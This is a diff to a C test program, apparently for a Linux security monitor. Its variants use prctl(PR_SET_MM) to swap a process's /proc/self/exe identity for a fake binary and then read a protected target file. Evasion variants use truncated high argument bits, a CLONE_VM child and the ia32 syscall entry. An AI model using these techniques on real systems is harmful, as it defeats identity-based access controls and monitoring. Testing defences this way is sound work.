@@ -9,13 +9,22 @@
  *                    with exe_fd = FAKE (no privilege needed)
  *          map32:    the same prctl by the ia32 entry (int $0x80 from this 64-bit
  *                    program, x86-64 only), which no syscall tracepoint sees
+ *          maphi, exehi: map and exe-file with upper bits set in arg2, which the
+ *                    kernel drops (prctl_set_mm takes an int)
+ *          vmshare:  map, made by a child that shares our mm (clone(CLONE_VM)
+ *                    without CLONE_THREAD): the identity is the mm's, so killing
+ *                    the child leaves us running as FAKE
+ *          keep:     PR_SET_MM_MAP with exe_fd -1, as liblxc's setproctitle does
+ *                    (no user namespace, nothing unmapped): a legitimate call that
+ *                    changes no identity
  *
  * The kernel refuses the change while the old image is mapped (EBUSY), so every
  * mapping of our own executable is unmapped first; the attack runs from the
  * library and never returns into main.  It prints one line per step:
  *   unmapped=N / prctl=R errno=E / exe=<readlink /proc/self/exe> / read=<first line>
- * and exits 0 when the identity changed, 3 when the prctl failed, 4 on a setup
- * failure, 5 when TARGET could not be opened. */
+ * and exits 0 when the identity changed (/proc/self/exe names FAKE, which must be
+ * given as the path readlink shows), 3 when it did not, 4 on a setup failure, 5
+ * when TARGET could not be opened. */
 #define _GNU_SOURCE
 #include <errno.h>
 #include <fcntl.h>
@@ -25,6 +34,8 @@
 #include <string.h>
 #include <sys/mman.h>
 #include <sys/prctl.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
 #include <unistd.h>
 #include <linux/prctl.h>
 
@@ -121,12 +132,53 @@ static long prctl32(long option, long arg2, long arg3, long arg4)
 #endif
 }
 
+static struct prctl_mm_map *shared_map;
+
+static int vm_child(void *unused)
+{
+	long r = syscall(SYS_prctl, PR_SET_MM, PR_SET_MM_MAP, (unsigned long)shared_map,
+			 sizeof(*shared_map), 0UL);
+
+	(void)unused;
+	_exit(r ? errno : 0);
+}
+
+/* the prctl by a clone(CLONE_VM) child: 0 when it made the change, else -1 with
+ * errno (0 when the child was killed) */
+static int prctl_by_vm_child(struct prctl_mm_map *mp)
+{
+	char *stack = mmap(NULL, 65536, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	char buf[64];
+	int pid, st;
+
+	if (stack == MAP_FAILED)
+		fail("mmap(stack)");
+	shared_map = mp;
+	pid = clone(vm_child, stack + 65536, CLONE_VM | SIGCHLD, NULL);
+	if (pid < 0)
+		fail("clone(CLONE_VM)");
+	if (waitpid(pid, &st, 0) != pid)
+		fail("waitpid");
+	if (WIFSIGNALED(st)) {
+		snprintf(buf, sizeof buf, "child killed by signal %d\n", WTERMSIG(st));
+		say(buf);
+		errno = 0;
+		return -1;
+	}
+	errno = WEXITSTATUS(st);
+	return errno ? -1 : 0;
+}
+
 void mmswap(const char *mode, const char *fake, const char *target)
 {
 	char buf[600];
 	unsigned long v[64] = {0};
 	struct prctl_mm_map *mp, m0 = {0};
 	int xfd, r, n, ia32 = strcmp(mode, "map32") == 0;
+	int hi = strcmp(mode, "maphi") == 0 || strcmp(mode, "exehi") == 0;
+	int keep = strcmp(mode, "keep") == 0;
+	int vmshare = strcmp(mode, "vmshare") == 0;
+	int map = ia32 || keep || vmshare || strcmp(mode, "map") == 0 || strcmp(mode, "maphi") == 0;
 	ssize_t l;
 
 	/* ia32: the structure below 4 GiB, where a 32-bit register can point */
@@ -135,8 +187,8 @@ void mmswap(const char *mode, const char *fake, const char *target)
 	if (mp == MAP_FAILED)
 		fail("mmap(MAP_32BIT)");
 #define m (*mp)
-	if (strcmp(mode, "map") == 0 || ia32) {
-		if (unshare(CLONE_NEWUSER))
+	if (map) {
+		if (!keep && unshare(CLONE_NEWUSER))
 			fail("unshare(CLONE_NEWUSER)");
 		stat_fields(v, 64);
 		m.start_code = v[26];
@@ -150,15 +202,15 @@ void mmswap(const char *mode, const char *fake, const char *target)
 		m.arg_end = v[49];
 		m.env_start = v[50];
 		m.env_end = v[51];
-	} else if (strcmp(mode, "exe-file") != 0) {
+	} else if (strcmp(mode, "exe-file") != 0 && strcmp(mode, "exehi") != 0) {
 		errno = EINVAL;
 		fail("mode");
 	}
 	xfd = open(fake, O_RDONLY | O_CLOEXEC);
 	if (xfd < 0)
 		fail("open FAKE");
-	m.exe_fd = xfd;
-	n = unmap_image();
+	m.exe_fd = keep ? (__u32)-1 : (__u32)xfd;
+	n = keep ? 0 : unmap_image();
 	snprintf(buf, sizeof buf, "unmapped=%d\n", n);
 	say(buf);
 	if (ia32) {
@@ -167,10 +219,14 @@ void mmswap(const char *mode, const char *fake, const char *target)
 
 		r = e < 0 ? -1 : 0;
 		errno = e < 0 ? (int)-e : 0;
-	} else if (strcmp(mode, "map") == 0)
-		r = prctl(PR_SET_MM, PR_SET_MM_MAP, (unsigned long)&m, sizeof m, 0);
+	} else if (vmshare)
+		r = prctl_by_vm_child(mp);
+	else if (map)
+		r = (int)syscall(SYS_prctl, PR_SET_MM, PR_SET_MM_MAP | (hi ? 1UL << 32 : 0),
+				 (unsigned long)&m, sizeof m, 0UL);
 	else
-		r = prctl(PR_SET_MM, PR_SET_MM_EXE_FILE, xfd, 0, 0);
+		r = (int)syscall(SYS_prctl, PR_SET_MM,
+				 PR_SET_MM_EXE_FILE | (hi ? 0xffffffff00000000UL : 0), xfd, 0UL, 0UL);
 	snprintf(buf, sizeof buf, "prctl=%d errno=%d\n", r, r ? errno : 0);
 	say(buf);
 	l = readlink("/proc/self/exe", buf + 4, sizeof buf - 6);
@@ -178,7 +234,9 @@ void mmswap(const char *mode, const char *fake, const char *target)
 	buf[4 + (l > 0 ? l : 0)] = '\n';
 	buf[5 + (l > 0 ? l : 0)] = 0;
 	say(buf);
-	if (r)
+	/* vmshare: the child's prctl failed or it was killed, but the change may
+	 * have been made all the same: the identity is what counts */
+	if (strncmp(buf + 4, fake, strlen(fake)) != 0 || buf[4 + strlen(fake)] != '\n')
 		_exit(3);
 	if (target) {
 		int fd = open(target, O_RDONLY);
